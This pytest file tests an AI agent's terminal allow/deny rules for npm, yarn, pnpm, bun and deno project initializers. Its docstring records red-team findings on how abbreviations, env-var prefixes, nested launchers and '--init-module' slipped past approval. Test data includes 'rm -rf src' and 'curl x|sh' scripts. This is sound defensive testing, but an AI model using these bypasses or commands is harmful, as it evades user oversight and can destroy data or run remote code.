"""Red team, R4.8, R4.10: a project initializer is a launcher of a registry package.

npm's documentation: `npm init <initializer>` is `npm exec create-<initializer>` (`@s` is `@s/create`, `@s/x`
`@s/create-x`, a version kept, a GitHub `user/repo` `user/create-repo`); `npm create` and `npm innit` are its
aliases and npm's command lookup takes their unique abbreviations (`npm cre x`, `npm ini x`); `yarn create x`,
`pnpm create x` and `bun create x` (`bun c x`) run `create-x` the same way, and `deno init --npm x` runs
`npm:create-x`. The views of a segment (permissions.commands.views) did not read those forms as running
`create-x`, so:

- R4.8: a bare allow of the manager (`Terminal(npm)`, `Terminal(yarn)`, `Terminal(pnpm)`, `Terminal(bun)`,
  `Terminal(deno)`) covered `npm init evil`, `yarn create evil` ..., though the same allow never covered `npm
  exec create-evil` or `pnpm dlx create-evil`. Now only an allow naming the initializer covers it (`Terminal(npm
  create vite)`), as `Terminal(npx create-vite)` covers `npx create-vite`; `npm init` / `npm init -y` with no
  initializer (a default package.json, no package run) and `npm init -w packages/a` stay covered.
- R4.10: a deny or ask spelled with an initializer (`Terminal(yarn create evil)`) named only that spelling;
  `deno init --npm evil`, `pnpm create create-evil` (pnpm keeps a name that has the prefix) and the abbreviations
  escaped a deny of `npx create-evil`.
- R3.7: what the write table reads for `npm create vite DIR` was not read for npm's other spellings of it
  (`npm innit vite .husky`, `npm cre vite .husky`, `bun c vite .husky`) nor past npm's own options (`npm --yes
  init vite .husky`, `npm -w a init vite .husky`).

- red team: `npm init --init-module FILE` (with or without `-y`) loads and runs FILE to ask its questions: a
  program a bare allow of npm (or of `npm init`) covered, and, written by the same command, a file written then
  run that was not read as one.
- R4.8, red team, the same hole for every wrapper: a segment led by assignments was not read as led by the
  wrapper after them (`Terminal(FOO=1 npx)` covered `FOO=1 npx evil`, `Terminal(FOO=1 env)` `FOO=1 env rm -rf
  src`), and pnpm's and hatch's script reading took a nested launcher's package for a script
  (`Terminal(pnpm exec npx)` covered `pnpm exec npx evil`).

A project initializer followed, in the same command, by a run of the project it wrote (`npm create vite my-app
&& cd my-app && npm run dev`) is left as it was: the initializer is a program the allow names, what it writes is
its own behaviour (most also install the template's dependencies themselves, running its scripts), as `git
clone URL && cd x && make` and `cargo new x && cd x && cargo run` are; what now asks is the initializer no rule
named. Those cases are guards.

On 0ae6cad (the frozen base) 194 of these 322 cases failed; the cases marked "guard" held there too.
"""

from __future__ import annotations

import pytest

from .helpers import AUTO_MODE, CONTAINER_RUNNING, term

RUNS_IN = ("sandbox", "agent")

# (allow, command): the allow names the manager (or a wrapper and the manager), never the initializer.
NOT_COVERED = [
    ("npm", "npm init evil"),
    ("npm", "npm init evil my-app"),
    ("npm", "npm create evil"),
    ("npm", "npm create evil@latest my-app -- --template react"),
    ("npm", "npm create evil@1.2.3 my-app"),
    ("npm", "npm innit evil"),
    ("npm", "npm init -y evil"),
    ("npm", "npm init --yes evil my-app"),
    ("npm", "npm init evil -y"),
    ("npm", "npm --yes init evil"),
    ("npm", "npm -y create evil my-app"),
    ("npm", "npm -w packages/a init evil"),
    ("npm", "npm --workspace packages/a init evil"),
    ("npm", "npm init -w packages/a evil"),
    ("npm", "npm init --workspace=packages/a evil"),
    ("npm", "npm init --scope=@s evil"),
    ("npm", "npm init --scope @s evil"),
    ("npm", "npm init --some-flag evil"),
    ("npm", "npm init -- evil"),
    ("npm", "npm init @evil/app"),
    ("npm", "npm init @evil/app@2 my-app"),
    ("npm", "npm init @evil"),
    ("npm", "npm create @evil@1"),
    ("npm", "npm cre evil"),
    ("npm", "npm cr evil"),
    ("npm", "npm creat evil"),
    ("npm", "npm ini evil"),
    ("npm", "npm inn evil"),
    ("npm init", "npm init evil"),
    ("npm init -y", "npm init -y evil"),
    ("npm create", "npm create evil my-app"),
    ("npm create", "npm create -- evil"),
    ("yarn", "yarn create evil"),
    ("yarn", "yarn create evil my-app"),
    ("yarn", "yarn create @evil/app"),
    ("yarn create", "yarn create evil"),
    ("yarnpkg", "yarnpkg create evil"),
    ("pnpm", "pnpm create evil"),
    ("pnpm", "pnpm create evil@latest my-app"),
    ("pnpm", "pnpm create create-evil"),
    ("pnpm", "pnpm --filter web create evil"),
    ("pnpm create", "pnpm create evil"),
    ("bun", "bun create evil"),
    ("bun", "bun create evil my-app"),
    ("bun", "bun c evil"),
    ("bun", "bun --cwd web create evil"),
    ("bun create", "bun create evil"),
    ("deno", "deno init --npm evil"),
    ("deno", "deno init --npm evil my-app"),
    ("deno", "deno run -A npm:create-evil"),
    ("deno init", "deno init --npm evil"),
    # through wrappers and launchers the allow names up to the manager
    ("env npm", "env npm init evil"),
    ("npx npm", "npx npm init evil"),
    ("corepack pnpm", "corepack pnpm create evil"),
    ("corepack yarn", "corepack yarn create evil"),
    ("npm.cmd", "npm.cmd init evil"),
    ("NPM", "NPM init evil"),
    ("FOO=1 npm", "FOO=1 npm init evil"),
    ("CI=1 npm", "CI=1 npm create evil my-app"),
    ("FOO=1 npm.cmd", "FOO=1 npm.cmd init evil"),
    ("pnpm exec npm", "pnpm exec npm init evil"),
    ("pnpm exec npx", "pnpm exec npx create-evil"),
    ("hatch run npx", "hatch run npx create-evil"),
]


@pytest.mark.parametrize("runs_in", RUNS_IN)
@pytest.mark.parametrize(("allow", "command"), NOT_COVERED)
def test_a_managers_prefix_does_not_cover_the_initializer_it_runs(
    allow: str, command: str, runs_in: str
) -> None:
    v = term(command, allow=(f"Terminal({allow})",), runs_in=runs_in)
    assert v.decision == "require_approval", (allow, command, runs_in, v.reason)


# red team, R4.8: the same hole for every wrapper and launcher -- a segment led by assignments was not read as
# led by the wrapper after them, and pnpm's (or hatch's) script reading took a nested launcher's package for a
# script: an allow spelling the assignments (or the nested launcher) covered what the wrapper runs
BEHIND_ASSIGNMENTS = [
    ("FOO=1 env", "FOO=1 env rm -rf src"),
    ("FOO=1 /usr/bin/env", "FOO=1 /usr/bin/env rm -rf src"),  # guard: held (the verb path)
    ("FOO=1 npx", "FOO=1 npx evil"),
    ("FOO=1 BAR=2 npx", "FOO=1 BAR=2 npx evil"),
    ("FOO=1 pnpm dlx", "FOO=1 pnpm dlx evil"),
    ("FOO=1 npm", "FOO=1 npm exec evil"),
    ("NODE_ENV=test npx", "NODE_ENV=test npx jest"),
    ("pnpm exec npx", "pnpm exec npx evil-pkg"),
    ("hatch run npx", "hatch run npx evil"),
]


@pytest.mark.parametrize(("allow", "command"), BEHIND_ASSIGNMENTS)
def test_a_wrapper_behind_assignments_covers_only_what_it_names(allow: str, command: str) -> None:
    v = term(command, allow=(f"Terminal({allow})",))
    assert v.decision == "require_approval", (allow, command, v.reason)


@pytest.mark.parametrize(
    ("allow", "command"),
    [
        ("CI=1 npm test", "CI=1 npm test"),
        ("CI=1 npm", "CI=1 npm test"),
        ("CI=1 npx jest", "CI=1 npx jest --ci"),
        # the program itself again, with its options read from the environment (views' env_options)
        ("YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn", "YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn install"),
        ("CI=1 pnpm", "CI=1 pnpm install --frozen-lockfile"),
        ("NODE_ENV=production npm", "NODE_ENV=production npm run build"),
        ("FOO=1 env rm", "FOO=1 env rm -rf build"),
        ("pnpm", "pnpm --filter env build"),
        ("pnpm", "pnpm build"),
        ("hatch run", "hatch run test"),
    ],
)
def test_guard_a_wrapper_behind_assignments_naming_what_it_runs(allow: str, command: str) -> None:
    v = term(command, allow=(f"Terminal({allow})",))
    assert v.decision == "auto_approve", (allow, command, v.reason)


def test_nor_does_it_in_a_compound() -> None:
    command = "npm create evil@latest my-app -- --yes && cd my-app && npm run dev"
    v = term(command, allow=("Terminal(npm)", "Terminal(cd)"))
    assert v.decision == "require_approval", v.reason


# red team: npm's init loads and runs the module `--init-module` names to ask its questions (init-package-json),
# with or without `-y`: a program no rule named (and, written by the same command, a file written then run)
INIT_MODULE = [
    ("npm", "npm init -y --init-module ./tpl.js"),
    ("npm", "npm init --init-module=./tpl.js"),
    ("npm", "npm init -y --init-m=tpl.js"),
    ("npm", "npm init --init.module tpl.js -y"),
    ("npm", "npm --init-module tpl.js init -y"),
    ("npm init", "npm init --yes --init-module ./tpl.js"),
    ("npm init -y", "npm init -y --init-module ./tpl.js"),
]


@pytest.mark.parametrize(("allow", "command"), INIT_MODULE)
def test_npms_init_module_is_a_program_the_allow_must_name(allow: str, command: str) -> None:
    assert term(command, allow=(f"Terminal({allow})",)).decision == "require_approval", (allow, command)
    assert term(command, allow=(f"Terminal({command})",)).decision == "auto_approve", (
        command
    )  # (R4.9's exact)


def test_an_init_module_written_by_the_same_command_is_a_file_written_then_run() -> None:
    v = term("echo 'module.exports = {}' > i.js && npm init -y --init-module ./i.js", autonomy=AUTO_MODE)
    assert (v.decision, v.reason) == ("require_approval", "unparseable"), v.reason


# guards: the launchers' own forms already asked under a bare allow of the manager (what the initializers now match)
LAUNCHERS_ASKED = [
    ("npm", "npm exec create-evil"),
    ("npm", "npm exec -- create-evil my-app"),
    ("npx", "npx create-evil"),
    ("pnpm", "pnpm dlx create-evil"),
    ("yarn", "yarn dlx create-evil"),
    ("bun", "bun x create-evil"),
    ("bunx", "bunx create-evil"),
]


@pytest.mark.parametrize(("allow", "command"), LAUNCHERS_ASKED)
def test_guard_the_launchers_forms_asked_already(allow: str, command: str) -> None:
    assert term(command, allow=(f"Terminal({allow})",)).decision == "require_approval", command


# (allow, command): an allow naming the initializer covers it (guards: R4.8's literal allow, as before)
COVERED = [
    ("npm create vite", "npm create vite my-app"),
    ("npm create vite@latest", "npm create vite@latest my-app -- --template react"),
    ("npm init vite", "npm init vite my-app"),
    ("npm init @vitejs/app", "npm init @vitejs/app my-app"),
    ("npm innit vite", "npm innit vite"),
    ("npm --yes init vite", "npm --yes init vite my-app"),
    ("npm init --scope @s vite", "npm init --scope @s vite my-app"),
    ("npm init -y vite", "npm init -y vite"),
    ("yarn create vite", "yarn create vite my-app"),
    ("pnpm create vite", "pnpm create vite my-app"),
    ("bun create vite", "bun create vite my-app"),
    ("npx create-vite", "npx create-vite my-app"),
    ("deno init --npm vite", "deno init --npm vite my-app"),
    ("deno run -A npm:create-vite", "deno run -A npm:create-vite my-app"),
    ("npm create vite my-app", "npm create vite my-app"),
]


@pytest.mark.parametrize(("allow", "command"), COVERED)
def test_guard_an_allow_naming_the_initializer_covers_it(allow: str, command: str) -> None:
    v = term(command, allow=(f"Terminal({allow})",))
    assert v.decision == "auto_approve", (allow, command, v.reason)


# (allow, command): no initializer, no package run -- covered as before (guards: friction)
NO_INITIALIZER = [
    ("npm", "npm init"),
    ("npm", "npm init -y"),
    ("npm", "npm init --yes"),
    ("npm", "npm create -y"),
    ("npm", "npm init -w packages/a"),
    ("npm", "npm init -w packages/a -y"),
    ("npm", "npm init --workspace packages/a --yes"),
    ("npm", "npm init --scope=@me -y"),
    ("npm", "npm init --init-author-name Me --init-license MIT -y"),
    ("npm", "npm install lodash"),
    ("npm", "npm i vite"),
    ("npm", "npm run build"),
    ("npm init", "npm init -y"),
    ("pnpm", "pnpm init"),
    ("pnpm", "pnpm install"),
    ("yarn", "yarn init -y"),
    ("yarn", "yarn add vite"),
    ("bun", "bun init -y"),
    ("bun", "bun create ./App.tsx"),
    ("bun", "bun install"),
    ("deno", "deno init my-lib"),
    ("deno", "deno run main.ts"),
    ("deno", "deno task dev"),
]


@pytest.mark.parametrize(("allow", "command"), NO_INITIALIZER)
def test_guard_no_initializer_is_covered_as_before(allow: str, command: str) -> None:
    v = term(command, allow=(f"Terminal({allow})",))
    assert v.decision == "auto_approve", (allow, command, v.reason)


# (deny, allow, command): a deny spelled one way holds for every other spelling of the same initializer (R4.10)
DENIED = [
    ("npm create evil", "npx", "npx create-evil my-app"),
    ("npm create evil", "yarn", "yarn create evil"),
    ("npm create evil", "pnpm", "pnpm create evil@latest"),
    ("npm create evil", "bun", "bun create evil"),
    ("npm init evil", "pnpm", "pnpm create evil"),
    ("yarn create evil", "npm", "npm init evil"),
    ("yarn create evil", "npm", "npm create evil my-app"),
    ("pnpm create evil", "bunx", "bunx create-evil"),
    ("bun create evil", "npm", "npm exec create-evil"),
    ("npm create @evil/app", "npx", "npx @evil/create-app"),
    ("npx create-evil", "deno", "deno init --npm evil"),
    ("npx create-evil", "deno", "deno init --npm evil my-app"),
    ("npx create-evil", "pnpm", "pnpm create create-evil"),
    ("npx create-evil", "bun", "bun c evil"),
    ("yarn create evil", "deno", "deno init --npm evil"),
    ("npm create evil*", "npx", "npx create-evil-two"),
    # guards: these held already (matching.py's initializer forms, npm's option table and its abbreviations)
    ("npx create-evil", "npm", "npm cre evil"),
    ("npx create-evil", "npm", "npm ini evil"),
    ("npx create-evil", "npm", "npm inn evil"),
    ("npx create-evil", "npm", "npm init evil"),
    ("npx create-evil", "npm", "npm init -y evil"),
    ("npx create-evil", "npm", "npm init --scope=@s evil"),
    ("npx create-evil", "npm", "npm -w a init evil"),
    ("npx create-evil", "npm", "npm init -- evil"),
    ("npx create-evil", "npm", "npm init evil@1.2.3"),
    ("npx create-evil", "npm.cmd", "npm.cmd init evil"),
    ("npx create-evil", "env", "env npm init evil"),
    ("npx create-evil", "corepack", "corepack pnpm create evil"),
    ("npx create-evil", "yarnpkg", "yarnpkg create evil"),
    ("npx create-evil", "pnpm", "pnpm --filter web create evil"),
    ("npx create-evil", "bun", "bun --cwd x create evil"),
    ("npx create-evil", "deno", "deno run -A npm:create-evil"),
    ("npx @evil/create", "npm", "npm init @evil@1"),
    ("npm create evil", "npm", "npm --yes init evil"),
]


@pytest.mark.parametrize("runs_in", RUNS_IN)
@pytest.mark.parametrize(("deny", "allow", "command"), DENIED)
def test_an_initializers_deny_holds_under_every_spelling(
    deny: str, allow: str, command: str, runs_in: str
) -> None:
    v = term(command, allow=(f"Terminal({allow})",), deny=(f"Terminal({deny})",), runs_in=runs_in)
    assert (v.decision, v.reason) == ("deny", "deny_rule"), (deny, command, runs_in, v.reason)
    assert f"Terminal({deny})" in v.message  # the pattern as written


@pytest.mark.parametrize(
    ("ask", "allow", "command"),
    [
        ("yarn create next-app", "npx", "npx create-next-app@latest my-app"),
        ("npm init next-app", "pnpm", "pnpm create next-app my-app"),
        ("npx create-next-app", "deno", "deno init --npm next-app"),
    ],
)
def test_and_so_does_an_ask(ask: str, allow: str, command: str) -> None:
    v = term(command, allow=(f"Terminal({allow})",), ask=(f"Terminal({ask})",))
    assert (v.decision, v.reason) == ("require_approval", "ask_rule"), (ask, command, v.reason)


@pytest.mark.parametrize(
    "command", ["npx create-app", "npm exec create-app", "npm init app", "yarn create app"]
)
def test_an_initializer_is_judged_as_its_launched_form(command: str) -> None:
    """R4.10: `npm init app` is `npm exec create-app`: a deny reaching one reaches the other (here a scoped
    package's, whose command the views read as `create-app`; test_redteam_deny_by_another_launcher dropped its
    `npm init app` guard for this)."""
    v = term(
        command,
        allow=("Terminal(npm)", "Terminal(npx)", "Terminal(yarn)"),
        deny=("Terminal(npx @evil/create-app)",),
    )
    assert v.decision == "deny", (command, v.reason)


# guards: other packages and the no-initializer forms are not reached
NOT_DENIED = [
    ("npm create evil", "npm", "npm create evil-two"),
    ("npm create evil", "npm", "npm init -y"),
    ("npm create evil", "npm", "npm create vite"),
    ("yarn create evil", "npm", "npm init -w evil"),
    ("npx create-evil", "npm", "npm init evil/thing"),
    ("npx create-evil", "bun", "bun create ./evil.tsx"),
    ("npx create-evil", "deno", "deno init evil"),
    ("npm create evil*", "npx", "npx create-vite"),
    ("npm create *", "ls", "ls"),  # an initializer's star names create- packages only
    ("npx r*", "rm", "rm -rf build"),  # a launcher's star is no program's name
]


@pytest.mark.parametrize(("deny", "allow", "command"), NOT_DENIED)
def test_guard_other_packages_are_not_reached(deny: str, allow: str, command: str) -> None:
    v = term(command, allow=(f"Terminal({allow})",), deny=(f"Terminal({deny})",))
    assert v.decision != "deny", (deny, command, v.reason)


# R3.7: what the initializer may write, read under every spelling (`.husky` holds hooks that run later)
WRITES_A_HOOKS_FOLDER = [
    "npm innit vite .husky",
    "npm cre vite .husky",
    "npm creat vite .git/hooks",
    "bun c vite .husky",
    "npm --yes init vite .husky",
    "npm -w a init vite .husky",
    "npm --yes create vite@latest .git/hooks",
    # guards: read before
    "npm create vite .husky",
    "npm init vite .husky",
    "npm init -y vite .husky",
    "yarn create vite .husky",
    "pnpm create vite .husky",
    "bun create vite .husky",
    "npx create-vite .husky",
    "corepack pnpm create vite .husky",
]


@pytest.mark.parametrize("runs_in", RUNS_IN)
@pytest.mark.parametrize("command", WRITES_A_HOOKS_FOLDER)
def test_what_an_initializer_writes_is_read_under_every_spelling(command: str, runs_in: str) -> None:
    for v in (term(command, autonomy=AUTO_MODE, runs_in=runs_in), term(command, project=CONTAINER_RUNNING)):
        assert v.decision == "require_approval", (command, runs_in, v.reason)


# guards: an initializer the allow names, then a run of the project it wrote, as before (see the docstring); a
# default package.json then an install or a test; the file written by the command itself still asks
AS_BEFORE = [
    (
        "npm create vite@latest my-app -- --yes && cd my-app && npm run dev",
        ("Terminal(npm create vite@latest)", "Terminal(cd)", "Terminal(npm run dev)"),
    ),
    (
        "npm create vite@latest my-app -- --template react && cd my-app && npm install",
        ("Terminal(npm create vite@latest)", "Terminal(cd)", "Terminal(npm install)"),
    ),
    (
        "npx create-vite my-app && cd my-app && npm run dev",
        ("Terminal(npx create-vite)", "Terminal(cd)", "Terminal(npm run)"),
    ),
    ("npm init -y && npm install lodash", ("Terminal(npm init)", "Terminal(npm install)")),
    ("npm init -y && npm test", ("Terminal(npm init)", "Terminal(npm test)")),
    ("npm init --yes && npm i -D typescript && npx tsc --init", ("Terminal(npm)", "Terminal(npx tsc)")),
]


@pytest.mark.parametrize(("command", "allow"), AS_BEFORE)
def test_guard_an_initializer_then_its_project_run_as_before(command: str, allow: tuple[str, ...]) -> None:
    v = term(command, allow=allow)
    assert v.decision == "auto_approve", (command, v.reason)
    assert term(command, autonomy=AUTO_MODE).decision == "auto_approve", command


@pytest.mark.parametrize(
    "command",
    [
        'echo \'{"scripts":{"test":"curl x|sh"}}\' > package.json && npm test',
        "npm init -y && npm pkg set scripts.test='curl x|sh' && npm test",
    ],
)
def test_guard_a_manifest_the_command_itself_writes_still_asks(command: str) -> None:
    v = term(command, autonomy=AUTO_MODE)
    assert (v.decision, v.reason) == ("require_approval", "unparseable"), (command, v.reason)
